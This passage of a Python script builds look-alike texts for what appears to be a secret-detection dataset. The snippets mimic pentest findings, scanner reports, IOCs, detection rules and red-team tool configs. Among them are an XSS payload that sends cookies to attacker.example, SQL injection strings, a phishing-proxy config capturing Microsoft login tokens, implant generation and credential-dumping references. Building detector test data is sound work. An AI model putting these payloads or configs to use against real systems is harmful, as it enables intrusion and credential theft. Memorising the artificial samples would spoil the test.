  <authentication>
    <type>2</type>
    <form>
      <loginurl>https://inventory.acme.test/login</loginurl>
      <loginbody>username={%username%}&amp;password={%password%}</loginbody>
    </form>
  </authentication>
  <users><user>2;true;dGVzdGVy;2;env:ZAP_AUTH_USER~env:ZAP_AUTH_PASSWORD~</user></users>
</context>"""
)

la(
    """Burp Collaborator interactions (2):
  #1  DNS  query for {0}.oastify.com  from 198.51.100.4   2025-11-18 14:41:07 UTC
  #2  HTTP GET /x from 198.51.100.4  Host: {0}.oastify.com
The SSRF in /api/preview?url= reaches out-of-band; payload id is public by design.""",
    r(30, LOWER_NUM),
)

la(
    """[INF] Listing 1 payload for OOB Testing
[INF] {0}.oast.fun
[{1}] [http] Received HTTP interaction from 203.0.113.9 at 2025-11-18 14:52:33""",
    r(33, LOWER_NUM),
    r(20, LOWER_NUM),
)

la(
    """Payloads used for the reflected XSS on /search (finding M-02):
  "><svg/onload=alert(document.domain)>
  <img src=x onerror=fetch('https://attacker.example/c?'+document.cookie)>
  javascript:alert(1)//
No cookie values were collected; the PoC only shows document.domain."""
)

la(
    """Payload de la inyección SQL (hallazgo A-01), parámetro `orden` de /api/pedidos:
  ' OR 1=1-- -
  1' AND SLEEP(5)-- -
  1 UNION SELECT NULL,@@version,NULL-- -
Versión detectada: MariaDB 10.6.18. No se extrajeron datos personales ni contraseñas."""
)

la(
    """| Request | Method | URL | Status | Length | Comment |
|---|---|---|---|---|---|
| 118 | POST | https://api.staging.acme-pay.test/auth/login | 200 | 812 | login of test user (body removed) |
| 119 | GET  | https://api.staging.acme-pay.test/internal/reports/export?format=csv | 200 | 48213 | BFLA: works with a user token |
| 120 | GET  | https://api.staging.acme-pay.test/internal/reports/export?format=xlsx | 200 | 50911 | same |"""
)

# ============================================================ LOOK-ALIKES: secret scanners
la(
    """[
 {
  "Description": "Generic API Key",
  "StartLine": 14,
  "EndLine": 14,
  "Match": "partner_api_key = \\"REDACTED\\"",
  "Secret": "REDACTED",
  "File": "services/partners/client.py",
  "Commit": "{0}",
  "Entropy": 4.72,
  "RuleID": "generic-api-key",
  "Fingerprint": "{0}:services/partners/client.py:generic-api-key:14"
 }
]""",
    sha(),
)

la(
    """# .gitleaksignore
{0}:services/partners/client.py:generic-api-key:14
{1}:docs/examples/curl.md:curl-auth-header:88
{2}:tests/fixtures/fake_jwt.txt:jwt:1""",
    sha(),
    sha(),
    sha(),
)

la(
    """[extend]
useDefault = true

[[rules]]
id = "acme-internal-token"
description = "Acme internal service token"
regex = '''\\b(ait_[a-z0-9]{32})\\b'''
keywords = ["ait_"]

[allowlist]
paths = ['''(^|/)testdata/''', '''\\.lock$''']
regexTarget = "match"
stopwords = ["example", "placeholder"]"""
)

la(
    """{
  "version": "1.5.0",
  "filters_used": [{"path": "detect_secrets.filters.heuristic.is_likely_id_string"}],
  "results": {
    "infra/ansible/group_vars/db.yml": [
      {
        "type": "Secret Keyword",
        "filename": "infra/ansible/group_vars/db.yml",
        "hashed_secret": "{0}",
        "is_verified": false,
        "line_number": 13
      }
    ],
    "services/partners/client.py": [
      {
        "type": "Hex High Entropy String",
        "filename": "services/partners/client.py",
        "hashed_secret": "{1}",
        "is_verified": false,
        "line_number": 14,
        "is_secret": false
      }
    ]
  },
  "generated_at": "2025-11-18T10:04:51Z"
}""",
    sha(),
    sha(),
)

la(
    """{"SourceMetadata":{"Data":{"Git":{"commit":"{0}","file":"scripts/bootstrap.sh","email":"devops <devops@acme.test>","repository":"https://github.com/acme-internal/platform-tools.git","timestamp":"2025-06-11 08:02:19 +0000","line":9}}},"SourceID":1,"SourceType":16,"SourceName":"trufflehog - git","DetectorType":8,"DetectorName":"Doppler","DecoderName":"PLAIN","Verified":false,"Raw":"","Redacted":"dp.pt.****************","ExtraData":null}""",
    sha(),
)

la(
    """2025-11-18T10:31:44Z	INFO	Total: 2 (HIGH: 1, CRITICAL: 1)

HIGH: AWS (aws-access-key-id)
════════════════════════════════════════
AWS Access Key ID
────────────────────────────────────────
 deploy/terraform/providers.tf:7 (offset: 212 bytes)
────────────────────────────────────────
   7 [   access_key = "********************"
────────────────────────────────────────"""
)

la(
    """$ gh api repos/acme/metrics-sdk/secret-scanning/alerts --jq '.[] | {number, state, secret_type, resolution, resolved_at}'
{"number":41,"resolution":"revoked","resolved_at":"2025-11-15T09:20:11Z","secret_type":"gitlab_access_token","state":"resolved"}
{"number":40,"resolution":"false_positive","resolved_at":"2025-11-02T17:03:55Z","secret_type":"generic_password","state":"resolved"}"""
)

la(
    """>> Issue: [B105:hardcoded_password_string] Possible hardcoded password: 'PASSWORD_RESET_TEMPLATE'
   Severity: Low   Confidence: Medium
   CWE: CWE-259 (https://cwe.mitre.org/data/definitions/259.html)
   Location: ./accounts/emails.py:12:30
11	
12	RESET_MAIL_TEMPLATE_NAME = "PASSWORD_RESET_TEMPLATE"
13	"""
)

la(
    """┌──────────────────┬──────────────────────────────┐
│ rule             │ python.lang.security.audit.hardcoded-password-default-argument │
│ file             │ app/db.py:21                 │
│ code             │ def connect(password=os.environ["DB_PASSWORD"]):              │
│ status           │ triaged: not an issue (value comes from env)                   │
└──────────────────┴──────────────────────────────┘"""
)

la(
    """Finding 5/11 (id {0})
Rule: Generic Password
Group: ${{ secrets.REGISTRY_PASSWORD }}

Occurrence 1/1
File: .github/workflows/release.yml
Lines: 41:1-41:58

      password: ${{ secrets.REGISTRY_PASSWORD }}""",
    r(40, HEX),
)

# ============================================================ LOOK-ALIKES: detection content and IOCs
la(
    """rule ACME_Loader_Nov25
{
    meta:
        author = "acme-ir"
        date = "2025-11-18"
        sha256 = "{0}"
        reference = "INC-3318"
    strings:
        $mz = { 4D 5A }
        $s1 = "update-helper" wide ascii
        $s2 = { 48 8B 05 ?? ?? ?? ?? 48 85 C0 74 ?? FF D0 }
        $key = { 6B 3F 21 A9 0C 55 E7 12 }
    condition:
        $mz at 0 and 2 of ($s*) and filesize < 400KB
}""",
    h64(),
)

la(
    """title: Mimikatz Command Line Arguments
id: {0}
status: stable
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        CommandLine|contains:
            - 'sekurlsa::logonpasswords'
            - 'lsadump::dcsync'
            - 'lsadump::sam'
    condition: selection
level: high
tags:
    - attack.credential-access
    - attack.t1003.001""",
    uuid4(),
)

la(
    """IOCs – INC-3318 (TLP:AMBER, share with partner CERTs only)

SHA256
{0}  update-helper.exe
{1}  msedge_elf.dll (sideloaded)
MD5
{2}  update-helper.exe

Network
  hxxps://cdn-telemetry-sync[.]com/api/v2/beacon
  45.155.205[.]118:443
  185.220.101[.]47
Mutex: Global\\{3}""",
    h64(),
    h64(),
    r(32, HEX),
    uuid4().upper(),
)

la(
    """Basic properties
MD5           {0}
SHA-1         {1}
SHA-256       {2}
Vhash         {3}
Authentihash  {4}
Imphash       {5}
SSDEEP        6144:{6}:{7}
TLSH          T1{8}
File type     Win32 EXE
Magic         PE32+ executable (GUI) x86-64, for MS Windows""",
    r(32, HEX),
    sha(),
    h64(),
    r(26, HEX),
    h64(),
    r(32, HEX),
    r(30, ALNUM + "+/"),
    r(24, ALNUM + "+/"),
    r(70, UPPER_HEX),
)

la(
    """Индикаторы компрометации (INC-3318)

SHA-256 загрузчика: {0}
C2: cdn-telemetry-sync[.]com, 45.155.205[.]118
Планировщик: задача \\Microsoft\\Windows\\UpdateOrchestrator\\SyncHelper
Учётные данные злоумышленник не менял; пароли пользователей в логах не найдены.""",
    h64(),
)

la(
    """Sysmon Event ID 1 (Process Create)
UtcTime: 2025-11-18 02:40:55.402
ProcessGuid: {{0}}
ProcessId: 7712
Image: C:\\ProgramData\\update-helper.exe
CommandLine: "C:\\ProgramData\\update-helper.exe" --sync
User: CORP\\SYSTEM
Hashes: SHA1={1},MD5={2},SHA256={3},IMPHASH={4}
ParentImage: C:\\Windows\\System32\\svchost.exe""",
    uuid4().upper(),
    sha().upper(),
    r(32, UPPER_HEX),
    h64().upper(),
    r(32, UPPER_HEX),
)

la(
    """{"timestamp":"2025-11-18T02:41:12.118Z","flow_id":{0},"in_iface":"ens192","event_type":"alert","src_ip":"10.10.20.198","src_port":50412,"dest_ip":"45.155.205.118","dest_port":443,"proto":"TCP","community_id":"1:{1}=","alert":{"action":"allowed","gid":1,"signature_id":2033966,"rev":3,"signature":"ET MALWARE Observed Malicious SSL Cert (Loader CnC)","category":"A Network Trojan was detected","severity":1},"tls":{"sni":"cdn-telemetry-sync.com","ja3":{"hash":"{2}"},"ja3s":{"hash":"{3}"}}}""",
    r(16, DIGITS),
    b64(20)[:27],
    r(32, HEX),
    r(32, HEX),
)

la(
    """#fields	ts	uid	id.orig_h	id.orig_p	id.resp_h	id.resp_p	proto	service	duration
1731897672.118442	C{0}	10.10.20.198	50412	45.155.205.118	443	tcp	ssl	612.402
1731897680.913207	C{1}	10.10.20.198	50418	185.220.101.47	443	tcp	ssl	2.118""",
    r(17, ALNUM),
    r(17, ALNUM),
)

la(
    """index=wineventlog EventCode=4688 (CommandLine="* -p *" OR CommandLine="*/password:*" OR CommandLine="*net user * /add*")
| eval cmd=replace(CommandLine, "(-p\\s+|/password:)\\S+", "\\1********")
| stats count by host, user, cmd
| sort - count"""
)

la(
    """{
  "rule_id": "{0}",
  "name": "Potential Credential Access via Renamed COM+ Services DLL",
  "type": "eql",
  "risk_score": 73,
  "severity": "high",
  "query": "sequence by process.entity_id with maxspan=1m [process where process.name : \\"rundll32.exe\\"] [process where event.action == \\"load\\" and dll.name : \\"comsvcs.dll\\"]",
  "threat": [{"framework": "MITRE ATT&CK", "technique": [{"id": "T1003", "name": "OS Credential Dumping"}]}]
}""",
    uuid4(),
)

la(
    """ALERT  auth-bruteforce-0117  severity=medium
rule: More than 50 failed logons for one account in 5 minutes
account=svc_sql  failures=412  sources=[10.10.14.3]  window=2025-11-18T13:55:00Z/14:00:00Z
first_event_id={0}  last_event_id={1}
status: closed (authorised pentest, ticket PT-2025-044)""",
    uuid4(),
    uuid4(),
)

la(
    """{
  "eventVersion": "1.09",
  "userIdentity": {"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/ci-deploy/gha-8812"},
  "eventTime": "2025-11-18T03:12:09Z",
  "eventSource": "iam.amazonaws.com",
  "eventName": "DeleteAccessKey",
  "sourceIPAddress": "203.0.113.40",
  "requestParameters": {"userName": "metrics-uploader"},
  "requestID": "{0}",
  "eventID": "{1}"
}""",
    uuid4(),
    uuid4(),
)

la(
    """{"time":"2025-11-18T03:14:22.901Z","type":"request","auth":{"client_token":"hmac-sha256:{0}","accessor":"hmac-sha256:{1}","display_name":"oidc-n.okafor","policies":["default","ir-responder"]},"request":{"id":"{2}","operation":"update","path":"kv/data/prod/metrics/ingest","remote_address":"10.60.0.12"}}""",
    h64(),
    h64(),
    uuid4(),
)

# ============================================================ LOOK-ALIKES: keys, certificates, fingerprints
la(
    """$ ssh-keyscan -t ed25519,rsa 10.20.5.40 2>/dev/null | ssh-keygen -lf -
256 SHA256:{0} 10.20.5.40 (ED25519)
3072 SHA256:{1} 10.20.5.40 (RSA)""",
    b64(32).rstrip("="),
    b64(32).rstrip("="),
)

la(
    """# IR finding: key planted by the attacker in /root/.ssh/authorized_keys on web-03 (public key, kept as evidence)
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{0} kali@kali
# fingerprint: SHA256:{1}""",
    b64(24).rstrip("="),
    b64(32).rstrip("="),
)

la(
    """$ openssl x509 -in c2-cert.pem -noout -subject -issuer -serial -fingerprint -sha256
subject=CN = cdn-telemetry-sync.com
issuer=C = US, O = Let's Encrypt, CN = R11
serial={0}
sha256 Fingerprint={1}""",
    r(36, UPPER_HEX),
    ":".join(r(2, UPPER_HEX) for _ in range(32)),
)

la(
    """crt.sh ID   Logged At    Not Before   Not After    Common Name                Issuer
{0}  2025-10-29   2025-10-29   2026-01-27   cdn-telemetry-sync.com     C=US, O=Let's Encrypt, CN=R11
{1}  2025-09-14   2025-09-14   2025-12-13   api.cdn-telemetry-sync.com C=US, O=Let's Encrypt, CN=E6""",
    r(11, DIGITS),
    r(11, DIGITS),
)

la(
    """$ dig +short TXT sel1._domainkey.acme-insure.test
"v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA{0}" "{1}IDAQAB"
(public DKIM key, relevant to finding L-04: phishing domain lookalike acme-lnsure.test has no DMARC)""",
    b64(150).rstrip("="),
    b64(90).rstrip("="),
)

la(
    """$ head -3 ~/.ssh/known_hosts
|1|{0}|{1} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{2}
|1|{3}|{4} ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBB{5}""",
    b64(20),
    b64(20),
    b64(24).rstrip("="),
    b64(20),
    b64(20),
    b64(48).rstrip("="),
)

la(
    """PS> Get-AuthenticodeSignature .\\update-helper.exe | Format-List Status, StatusMessage, SignerCertificate

Status            : Valid
StatusMessage     : Signature verified.
SignerCertificate : [Subject]
                      CN=Shenzhen Kaiyuan Data Tech Co., Ltd., O=Shenzhen Kaiyuan Data Tech Co., Ltd., C=CN
                    [Thumbprint]
                      {0}
                    [Serial Number]
                      {1}""",
    sha().upper(),
    r(32, UPPER_HEX),
)

la(
    """BeaconType                       - HTTPS
Port                             - 443
SleepTime                        - 45000
Jitter                           - 37
PublicKey_MD5                    - {0}
C2Server                         - cdn-telemetry-sync.com,/api/v2/beacon
UserAgent                        - Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko
Watermark                        - {1}
SpawnTo_x64                      - %windir%\\sysnative\\dllhost.exe
PublicKey                        - 30819f300d06092a864886f70d010101050003818d0030818902818100{2}0203010001""",
    r(32, HEX),
    r(9, DIGITS),
    r(256, HEX),
)

la(
    """-----BEGIN PGP PUBLIC KEY BLOCK-----
Comment: security@acme.test — key for vulnerability reports (see /.well-known/security.txt)

mDMEZ{0}
{1}
=
-----END PGP PUBLIC KEY BLOCK-----
Fingerprint: {2}""",
    b64(40).rstrip("="),
    b64(48),
    " ".join(r(4, UPPER_HEX) for _ in range(10)),
)

la(
    """TLS fingerprints seen from the implant (for the blocklist, not secrets):
JA3  {0}  (771,4865-4866-4867-49195-49199,...)
JA3S {1}
JA4  t13d1516h2_{2}_{3}""",
    r(32, HEX),
    r(32, HEX),
    r(12, HEX),
    r(12, HEX),
)

# ============================================================ LOOK-ALIKES: reports, advisories, tickets
la(
    """## CVE-2025-31324 – unauthenticated file upload in the metadata uploader

Affected: SAP NetWeaver Visual Composer 7.50   CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H (10.0)
CWE-434 (Unrestricted Upload of File with Dangerous Type)
Detected on 2 hosts (10.40.0.21, 10.40.0.22). Patch: SAP Security Note 3594142.
Related: CVE-2017-12637, CVE-2021-44228 (not exploitable here, log4j 2.17.1 in use)."""
)

la(
    """Report #2841197 · Resolved · Bounty: $1,500
Weakness: Insecure Direct Object Reference (CWE-639)
Severity: High (7.7) CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N
Asset: app.acme-saas.test
Disclosed: 2025-11-04

Reproduction used two researcher accounts; the session cookies in the original
request were replaced with `sid=<researcher-A-session>` before disclosure."""
)

la(
    """### Impact
The bundle exposed a partner admin key. The key (last four characters `…9f2c`) was
revoked by the vendor 38 minutes after the report, and the new key is served only from
the backend. Snippet as disclosed:

```js
const PARTNER_ADMIN_KEY = "pak_live_[REDACTED]";
```"""
)

la(
    """SEC-2291  [P1] Internal metrics API key committed to public repo  —  RESOLVED
Key id: mik_id_7731 (the id, not the key)   Created: 2025-03-02   Revoked: 2025-11-15 09:20 UTC
Replacement key stored in Vault at kv/prod/metrics/ingest (version 12).
Commit with the leak: {0} (force-pushed; GitHub cache purge ticket #11842).
No use from non-corporate IPs in ingest logs 2025-11-14..2025-11-15.""",
    sha(),
)

la(
    """INC-5107 · Clave filtrada rotada (cerrado)
La clave antigua (terminada en ...R7vQ) ya devuelve 401. La nueva está en Vault
(kv/prod/notifications/sms, versión 4) y en el secreto de Kubernetes `sms-provider`
del namespace notifications; nadie la ha copiado en el ticket.
Huella SHA-256 del fichero de log afectado: {0}""",
    h64(),
)

la(
    """Informe de pruebas de penetración – Resumen ejecutivo

Se identificaron 3 vulnerabilidades críticas (CVE-2024-3400, CVE-2023-4966 y una
inyección SQL propia), 5 altas y 9 medias. Se obtuvieron credenciales de dominio en el
día 2; los valores no se incluyen en este documento y se entregaron al cliente por el
canal cifrado acordado. Recomendación principal: rotar las contraseñas de todas las
cuentas de servicio y activar LAPS en los puestos de trabajo."""
)

la(
    """Отчёт о пентесте, раздел 3: найденные уязвимости

H-01 Kerberoasting: 4 сервисные учётки с SPN, шифрование RC4. Пароли двух из них
подобраны за час; сами пароли в отчёт не включены и переданы заказчику отдельно.
H-02 ESC1 в шаблоне AcmeUserAuth (Certipy), CVE не присвоен.
M-04 Отключена подпись SMB на 37 хостах (см. приложение B)."""
)

la(
    """Retest checklist (PT-2025-044)
- [x] H-01 Kerberoast: svc_mssql now gMSA, svc_web AES-only — fixed
- [x] H-02 ESC1: 'Enrollee Supplies Subject' removed from AcmeUserAuth — fixed
- [ ] M-04 SMB signing: 12 of 37 hosts still signing:False
- [ ] L-02 Password policy: minimum length still 7, should be 14
Credentials for the retest are requested through the client portal, not over chat."""
)

la(
    """fix(auth): scope report export to tenant (HackerOne #2841197)

Reviewed-by: security-team
Fixes: {0} ("feat(reports): add CSV export")
Change-Id: I{1}
Signed-off-by: Marta Ruiz <marta.ruiz@acme.test>""",
    sha()[:12],
    sha(),
)

# ============================================================ LOOK-ALIKES: C2, phishing, tooling configs
la(
    """{
  "admin_server": {"listen_url": "127.0.0.1:3333", "use_tls": true, "cert_path": "gophish_admin.crt", "key_path": "gophish_admin.key", "trusted_origins": []},
  "phish_server": {"listen_url": "0.0.0.0:80", "use_tls": false},
  "db_name": "sqlite3",
  "db_path": "gophish.db",
  "migrations_prefix": "db/db_",
  "contact_address": "redteam@ops-lab.test",
  "logging": {"filename": "", "level": ""}
}"""
)

la(
    """name: 'o365'
min_ver: '3.0.0'
proxy_hosts:
  - {phish_sub: 'login', orig_sub: 'login', domain: 'microsoftonline.com', session: true, is_landing: true}
auth_tokens:
  - domain: '.login.microsoftonline.com'
    keys: ['ESTSAUTH', 'ESTSAUTHPERSISTENT', 'SignInStateCookie']
credentials:
  username: {key: 'login', search: '(.*)', type: 'post'}
  password: {key: 'passwd', search: '(.*)', type: 'post'}
login:
  domain: 'login.microsoftonline.com'
  path: '/'"""
)

la(
    """sliver > generate --http c2.ops-lab.test --os windows --arch amd64 --format exe --save /tmp/implants

[*] Generating new windows/amd64 implant binary
[*] Symbol obfuscation is enabled
[*] Build completed in 1m24s
[*] Implant saved to /tmp/implants/BRAVE_LANTERN.exe

sliver > implants
 Name            Implant Type   OS/Arch         Format   Command & Control              Debug
 BRAVE_LANTERN   session        windows/amd64   EXE      [1] https://c2.ops-lab.test   false
SHA256 (BRAVE_LANTERN.exe) = {0}""",
    h64(),
)

la(
    """id: acme-exposed-git-config

info:
  name: Exposed .git/config
  author: acme-appsec
  severity: medium
  tags: exposure,git,config

http:
  - method: GET
    path:
      - "{{BaseURL}}/.git/config"
    matchers-condition: and
    matchers:
      - type: word
        words:
          - "[core]"
          - "repositoryformatversion"
        condition: and
      - type: status
        status:
          - 200"""
)

la(
    """$ chisel --help

  Usage: chisel [command] [--help]

  Version: 1.10.1 (go1.22.5)

  Commands:
    server - runs chisel in server mode
    client - runs chisel in client mode

  client options:
    --auth, An optional username and password (client authentication)
    in the form: "<user>:<pass>". These credentials are compared to
    the credentials inside the server's --authfile. defaults to the
    AUTH environment variable."""
)

la(
    """$ nxc smb -L
[*] backup_operator           Exploit user in backup operator group to dump NTDS @mpgn_x64
[*] enum_av                   Gathers information on all endpoint protection solutions installed on the the remote host(s) via LsarLookupNames (no privilege needed)
[*] gpp_autologin             Searches the domain controller for registry.xml to find autologin information and returns the username and password.
[*] gpp_password              Retrieves the plaintext password and other information for accounts pushed through Group Policy Preferences.
[*] laps                      Retrieves all LAPS passwords which the account has read permissions for.
[*] lsassy                    Dump lsass and parse the result remotely with lsassy"""
)

la(
    """# ~/engagements/acme-2025q4/README.md
Credentials live in the engagement KeePassXC db (engagements/acme-2025q4/acme.kdbx), key file on the YubiKey.
Load them into the shell with:
    export NXC_USER=$(keepassxc-cli show -a UserName acme.kdbx "AD/svc_audit")
    export NXC_PASS=$(keepassxc-cli show -a Password acme.kdbx "AD/svc_audit")
Never paste them into notes, tmux logs or the report."""
)

la(
    """ldapsearch -x -H ldaps://dc01.corp.local -D "CN=svc_ldapread,OU=Service Accounts,DC=corp,DC=local" -W -b "DC=corp,DC=local" "(&(objectClass=user)(adminCount=1))" sAMAccountName
Enter LDAP Password:
# numResponses: 14
# numEntries: 13"""
)

la(
    """$ cat ~/.smb-creds.example
username = <user>
password = <password>
domain   = CORP
$ smbclient //10.10.20.11/Finance -A ~/.smb-creds -c 'ls'   # real file is chmod 600 and not in the repo"""
)

# ============================================================ LOOK-ALIKES: forensics
la(
    """$ vol -f WS-0142.mem windows.pslist | head
PID	PPID	ImageFileName	Offset(V)	Threads	Handles	SessionId	Wow64	CreateTime
4	0	System	0xc50e8c06b040	183	-	N/A	False	2025-11-18 08:01:10.000000
3120	2844	chrome.exe	0xc50e91a2f080	38	-	1	False	2025-11-18 09:15:33.000000
7712	912	update-helper.	0xc50e93f1a080	6	-	0	False	2025-11-18 02:40:55.000000
7790	7712	rundll32.exe	0xc50e940aa300	3	-	0	False	2025-11-18 02:41:09.000000"""
)

la(
    """$ strings -n 10 update-helper.exe | sort -u | head -12
AdjustTokenPrivileges
CreateRemoteThread
Global\\{0}
LookupPrivilegeValueW
MiniDumpWriteDump
SeDebugPrivilege
VirtualAllocEx
comsvcs.dll, MiniDump
https://cdn-telemetry-sync.com/api/v2/beacon
{1}.tmp""",
    uuid4().upper(),
    r(8, HEX),
)

la(
    """$ tshark -r capture-0412.pcapng -Y "tls.handshake.type == 1" -T fields -e ip.dst -e tls.handshake.extensions_server_name -e tls.handshake.ja3
45.155.205.118	cdn-telemetry-sync.com	{0}
140.82.121.4	github.com	{1}
10.30.1.12		{1}""",
    r(32, HEX),
    r(32, HEX),
)

la(
    """{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{0}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/secrets/stripe-live","verb":"get","user":{"username":"system:serviceaccount:ci:deployer","uid":"{1}"},"sourceIPs":["10.60.3.18"],"responseStatus":{"code":200},"requestReceivedTimestamp":"2025-11-18T02:43:10.004Z"}""",
    uuid4(),
    uuid4(),
)

la(
    """Public CTF example (picoCTF 2019 "vault-door-training", retired, solution published by the
organisers): the flag format is picoCTF{...}; our workshop slides use the placeholder
picoCTF{example_flag_not_real} so no live flag is ever shown."""
)

# ============================================================ self-check
assert len(SECRETS) == 100, len(SECRETS)
assert len(LOOK_ALIKES) == 100, len(LOOK_ALIKES)
for _kind, _text, _secret in SECRETS:
    assert isinstance(_kind, str) and _kind.count("/") == 1, _kind
    assert all(_kind.split("/")), _kind
    for _piece in _secret if isinstance(_secret, tuple) else (_secret,):
        assert _piece and _piece in _text, (_kind, _piece)
_texts = [t for _, t, _ in SECRETS] + LOOK_ALIKES
assert len(set(_texts)) == len(_texts), "duplicate texts"
